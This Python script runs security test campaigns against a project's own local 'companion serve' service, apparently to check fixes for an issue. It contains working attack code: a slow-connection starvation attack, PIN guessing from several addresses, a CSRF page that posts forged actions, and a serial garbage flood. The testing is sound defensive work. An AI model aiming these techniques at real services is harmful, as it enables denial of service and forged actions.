#!/usr/bin/env python3
"""Attacks from the cafe's network against a running ``companion serve`` (issue 42).

Each campaign starts the service in a child process (loopback only, a fresh data folder),
attacks it, and prints one JSON line of figures.  ``--code DIR`` runs another checkout's
code (e.g. the main branch, for the figures before a fix).

- ``starve``: 64 unfinished POST bodies and 1,100 half-open connections (kept up: one
  closed by the server is opened again) against a server whose file limit is 1,024
  (``resource.setrlimit`` in the server process), while a normal client asks
  ``GET /api/state`` and posts an action every half second.  Counted: answers within 1 s.
- ``lockout``: five wrong PINs from each of four addresses (127.0.0.2-5), then the right
  PIN from a fifth address and a pairing code from a sixth that never guessed wrong, and
  a paired tablet's change.
- ``csrf``: a tablet paired in Chromium opens a page served on the same host at another
  port that posts to ``/api/actions`` four ways (a form, ``fetch`` no-cors text/plain,
  ``fetch`` JSON with credentials, ``sendBeacon``).  Counted: actions recorded.
- ``flood``: a table device on a pseudo-terminal sends garbage for 20 s.  Counted: bytes
  the service wrote to its console (what goes to the journal).
- ``stop`` (not an attack): SIGTERM with two dashboards connected; the demo on SIGTERM.

Usage: scripts/attack_campaign.py starve|lockout|csrf|flood|stop [--code DIR]
"""

from __future__ import annotations

import argparse
import asyncio
import http.client
import json
import os
import re
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
PIN = "246810"


class Served:
    """``companion serve`` in a child process, its console captured."""

    def __init__(self, code: Path, folder: Path, nofile: int | None = None,
                 extra: list[str] | None = None, host: str = "127.0.0.1") -> None:
        self.port = free_port()
        self.console = folder / "console.txt"
        self.out = self.console.open("wb")

        def limit() -> None:
            if nofile is not None:
                _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, hard))

        env = {**os.environ, "PYTHONPATH": str(code)}
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "companion", "serve", "--data", str(folder / "data"),
             "--port", str(self.port), "--host", host, "--no-gpio", "--pin", PIN, "--game",
             "times_square", "--players", "2", *(extra or [])],
            cwd=folder, env=env, stdout=self.out, stderr=subprocess.STDOUT, preexec_fn=limit)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if "pair?code=" in self.console.read_text(errors="replace"):
                break
            if self.proc.poll() is not None:
                raise SystemExit(f"the service ended: {self.console.read_text()}")
            time.sleep(0.2)
        found = re.search(r"pair\?code=([\w-]+)", self.console.read_text(errors="replace"))
        self.code = found.group(1) if found else ""

    def stop(self) -> int:
        self.proc.terminate()
        try:
            return self.proc.wait(15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            return self.proc.wait()
        finally:
            self.out.close()


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def request(port: int, method: str, path: str, body: Any = None, headers: dict[str, str] | None = None,
            source: str = "127.0.0.1", timeout: float = 10.0) -> tuple[int, dict[str, Any], float]:
    """(status, JSON body, seconds); status 0 when no answer came within ``timeout``."""
    began = time.monotonic()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
    try:
        data = None if body is None else json.dumps(body).encode()
        sent = {"Content-Type": "application/json", **(headers or {})} if data else dict(headers or {})
        conn.request(method, path, body=data, headers=sent)
        reply = conn.getresponse()
        raw = reply.read()
        try:
            parsed = json.loads(raw or b"{}")
        except ValueError:
            parsed = {}
        return reply.status, parsed, time.monotonic() - began
    except OSError:
        return 0, {}, time.monotonic() - began
    finally:
        conn.close()


def actions_recorded(port: int) -> int:
    status, state, _ = request(port, "GET", "/api/state?history=500")
    return len(state.get("history", [])) if status == 200 else -1


# ---------------------------------------------------------------------- starve
async def _hold(port: int, first: bytes, trickle: bytes | None, stop: asyncio.Event,
                counts: dict[str, int], source: str) -> None:
    """Keep one connection in the state ``first`` leaves it, reopening it a second after
    the server closed it (a persistent attacker, not a connect flood)."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port,
                                                           local_addr=(source, 0))
        except OSError:
            counts["connect_failed"] += 1
            await asyncio.sleep(0.5)
            continue
        counts["opened"] += 1
        try:
            writer.write(first)
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1024), 2.0)
                    if not data:
                        break  # the server closed it: open another
                    counts["answered"] += 1
                    break
                except TimeoutError:
                    if trickle:
                        writer.write(trickle)
                        await writer.drain()
        except OSError:
            pass
        finally:
            writer.close()
        await asyncio.sleep(1.0)


def attack(port: int, source: str, seconds: float) -> dict[str, int]:
    """The attacker's side alone (run as its own process: on the cafe's network it is
    another machine, so it takes no CPU from the Pi; here it runs at a lower priority)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    counts = {"opened": 0, "answered": 0, "connect_failed": 0}

    async def run() -> None:
        stop = asyncio.Event()
        body = (b"POST /api/actions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Content-Length: 1000\r\n\r\n{")
        half = b"GET /api/state HTTP/1.1\r\nHost: x\r\n"
        tasks = [asyncio.ensure_future(_hold(port, body, b" ", stop, counts, source))
                 for _ in range(64)]
        tasks += [asyncio.ensure_future(_hold(port, half, b"X-a: b\r\n", stop, counts, source))
                  for _ in range(1100)]
        await asyncio.sleep(seconds)
        stop.set()
        await asyncio.wait(tasks, timeout=10)

    asyncio.run(run())
    return counts


def starve(code: Path, seconds: float, source: str) -> dict[str, Any]:
    with tempfile.TemporaryDirectory() as folder:
        served = Served(code, Path(folder), nofile=1024)
        port = served.port

        def client(span: float) -> list[tuple[str, int, float]]:
            into = []
            deadline = time.monotonic() + span
            while time.monotonic() < deadline:
                status, _, took = request(port, "GET", "/api/state", timeout=10)
                into.append(("GET /api/state", status, took))
                status, _, took = request(port, "POST", "/api/actions", {"type": "undo"},
                                          {"X-Table-Pin": PIN}, timeout=10)
                into.append(("POST /api/actions", status, took))
                time.sleep(0.5)
            return into

        quiet = client(10.0)  # the same client with no attack: what this machine's load allows
        attacker = subprocess.Popen(
            [sys.executable, __file__, "_attack", "--port", str(port), "--attacker", source,
             "--seconds", str(seconds + 6)], stdout=subprocess.PIPE, text=True,
            preexec_fn=lambda: os.nice(10))
        time.sleep(5)  # let the attack build up first
        samples = client(seconds)
        out, _ = attacker.communicate(timeout=seconds + 60)
        counts = json.loads(out.strip().splitlines()[-1]) if out.strip() else {}
        rc = served.stop()
        console = served.console.read_text(errors="replace")
    answered = [s for s in samples if s[1] != 0]
    fast = [s for s in samples if s[1] != 0 and s[2] <= 1.0]
    return {"campaign": "starve", "attacker": source, "slow_bodies": 64, "half_open": 1100,
            "server_nofile": 1024,
            "requests": len(samples), "answered": len(answered), "answered_within_1s": len(fast),
            "slowest_s": round(max((s[2] for s in samples), default=0), 2),
            "slow": [(s[0], s[1], round(s[2], 2)) for s in samples if s[1] == 0 or s[2] > 1.0],
            "statuses": sorted({s[1] for s in samples}), "attack_connections": counts,
            "without_attack": {"requests": len(quiet),
                               "within_1s": sum(1 for q in quiet if q[1] and q[2] <= 1.0),
                               "slowest_s": round(max(q[2] for q in quiet), 2)},
            "load_average": [round(x, 1) for x in os.getloadavg()],
            "emfile_lines": console.count("Too many open files"),
            "tracebacks": console.count("Traceback"), "exit": rc}


# ---------------------------------------------------------------------- lockout
def lockout(code: Path) -> dict[str, Any]:
    with tempfile.TemporaryDirectory() as folder:
        served = Served(code, Path(folder))
        port = served.port
        statuses = []
        for n in range(4):
            for guess in range(5):
                status, _, _ = request(port, "POST", "/api/pair", {"pin": f"{guess:06d}"},
                                       source=f"127.0.0.{2 + n}")
                statuses.append(status)
        right, _, _ = request(port, "POST", "/api/pair", {"pin": PIN}, source="127.0.0.6")
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=("127.0.0.7", 0))
        conn.request("GET", f"/pair?code={served.code}")
        reply = conn.getresponse()
        reply.read()
        cookie = (reply.getheader("Set-Cookie") or "").split(";")[0]
        conn.close()
        for guess in range(5):  # the paired tablet's own address guesses wrong too
            request(port, "POST", "/api/pair", {"pin": f"{guess + 10:06d}"}, source="127.0.0.7")
        paired, _, _ = request(port, "POST", "/api/actions", {"type": "undo"},
                               {"Cookie": cookie}, source="127.0.0.7")
        attacker, _, _ = request(port, "POST", "/api/pair", {"pin": PIN}, source="127.0.0.2")
        rc = served.stop()
    return {"campaign": "lockout", "wrong_guesses": statuses.count(403) + statuses.count(429),
            "right_pin_from_a_clean_client": right, "pairing_code_from_a_clean_client": reply.status,
            "paired_tablet_change_after_its_address_guessed_wrong": paired,
            "right_pin_from_a_guessing_address": attacker, "exit": rc}


# ---------------------------------------------------------------------- csrf
EVIL = """<!doctype html><html><body>
<form id="f" method="POST" enctype="text/plain" action="{target}/api/actions" target="sink">
<input name='{{"type":"setup","hal_player":0,"x":"' value='"}}'></form>
<iframe name="sink"></iframe>
<script>
async function go() {{
  const action = JSON.stringify({{type: "setup", hal_player: 0}});
  try {{ await fetch("{target}/api/actions", {{method: "POST", mode: "no-cors", credentials: "include",
    headers: {{"Content-Type": "text/plain"}}, body: action}}); }} catch (e) {{}}
  try {{ await fetch("{target}/api/actions", {{method: "POST", credentials: "include",
    headers: {{"Content-Type": "application/json"}}, body: action}}); }} catch (e) {{}}
  navigator.sendBeacon("{target}/api/actions", new Blob([action], {{type: "application/json"}}));
  document.getElementById("f").submit();
  document.title = "sent";
}}
go();
</script></body></html>"""


def csrf(code: Path) -> dict[str, Any]:
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from playwright.sync_api import sync_playwright

    with tempfile.TemporaryDirectory() as folder:
        served = Served(code, Path(folder))
        target = f"http://127.0.0.1:{served.port}"
        page_html = EVIL.format(target=target).encode()

        class Evil(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page_html)

            def log_message(self, *args: Any) -> None:
                pass

        evil = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
        threading.Thread(target=evil.serve_forever, daemon=True).start()
        before = actions_recorded(served.port)
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=[
                "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run"])
            page = browser.new_context().new_page()
            page.goto(f"{target}/pair?code={served.code}")
            paired = page.evaluate("fetch('/api/whoami').then(r => r.json())")
            page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
            page.wait_for_function("document.title === 'sent'", timeout=15000)
            page.wait_for_timeout(2000)
            own = page.context.new_page()  # the dashboard's own page still may change the game
            own.goto(f"{target}/")
            status = own.evaluate("""fetch('/api/actions', {method: 'POST',
                headers: {'Content-Type': 'application/json'},
                body: JSON.stringify({type: 'setup', hal_player: 0})}).then(r => r.status)""")
            browser.close()
        after = actions_recorded(served.port)
        evil.shutdown()
        rc = served.stop()
    return {"campaign": "csrf", "paired": paired, "attempts_from_another_port": 4,
            "actions_recorded_from_another_port": after - before - (1 if status == 200 else 0),
            "own_page_change_status": status, "exit": rc}


# ---------------------------------------------------------------------- flood
def flood(code: Path, seconds: float) -> dict[str, Any]:
    import tty

    master, slave = os.openpty()
    tty.setraw(master)
    tty.setraw(slave)
    with tempfile.TemporaryDirectory() as folder:
        served = Served(code, Path(folder), extra=["--serial", os.ttyname(slave)])
        time.sleep(2)
        start = served.console.stat().st_size
        deadline = time.monotonic() + seconds
        sent = 0
        rng = __import__("random").Random(42)
        os.set_blocking(master, False)
        while time.monotonic() < deadline:
            chunk = bytes(rng.getrandbits(8) for _ in range(4096))
            try:
                sent += os.write(master, chunk)
            except BlockingIOError:
                time.sleep(0.001)
            try:
                os.read(master, 65536)  # what the host writes (its PINGs)
            except (BlockingIOError, OSError):
                pass
        grown = served.console.stat().st_size - start
        rc = served.stop()
        tail = served.console.read_text(errors="replace").splitlines()[-3:]
    os.close(master)
    os.close(slave)
    return {"campaign": "flood", "seconds": seconds, "garbage_bytes": sent,
            "console_growth_bytes": grown, "exit": rc, "console_tail": tail}


# ---------------------------------------------------------------------- stop
def stop(code: Path) -> dict[str, Any]:
    """Not an attack: SIGTERM (systemctl stop) with two dashboards connected, and the demo's."""
    with tempfile.TemporaryDirectory() as folder:
        served = Served(code, Path(folder))
        streams = []
        for _ in range(2):
            sock = socket.create_connection(("127.0.0.1", served.port), timeout=10)
            sock.sendall(b"GET /api/events HTTP/1.1\r\nHost: t\r\n\r\n")
            sock.recv(65536)
            streams.append(sock)
        began = time.monotonic()
        rc = served.stop()
        took = time.monotonic() - began
        for sock in streams:
            sock.close()
        console = served.console.read_text(errors="replace")
        env = {**os.environ, "PYTHONPATH": str(code)}
        demo = subprocess.Popen([sys.executable, "-m", "companion", "demo", "--game", "times_square",
                                 "--port", "0", "--pin", PIN, "--data", str(Path(folder) / "demo"),
                                 "--speed", "1"], cwd=folder, env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)
        assert demo.stdout is not None
        demo.stdout.readline()  # the banner: its signal handling is set up
        time.sleep(3)
        demo.terminate()
        out, err = demo.communicate(timeout=60)
    return {"campaign": "stop", "serve_exit": rc, "serve_stop_s": round(took, 2),
            "serve_tracebacks": console.count("Traceback"), "serve_aborted": console.count("Aborted"),
            "demo_exit": demo.returncode, "demo_result_printed": "Scores:" in out,
            "demo_tracebacks": err.count("Traceback")}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("campaign", choices=["starve", "lockout", "csrf", "flood", "stop", "_attack"])
    parser.add_argument("--port", type=int, default=0, help=argparse.SUPPRESS)
    parser.add_argument("--code", type=Path, default=ROOT, help="the checkout whose code runs")
    parser.add_argument("--seconds", type=float, default=None)
    parser.add_argument("--attacker", default="127.0.0.2",
                        help="starve: the attacker's address (the normal client is 127.0.0.1)")
    options = parser.parse_args()
    code = options.code.resolve()
    if options.campaign == "_attack":  # starve's attacker, as its own process
        result = attack(options.port, options.attacker, options.seconds or 30.0)
    elif options.campaign == "starve":
        result = starve(code, options.seconds or 30.0, options.attacker)
    elif options.campaign == "lockout":
        result = lockout(code)
    elif options.campaign == "csrf":
        result = csrf(code)
    elif options.campaign == "stop":
        result = stop(code)
    else:
        result = flood(code, options.seconds or 20.0)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
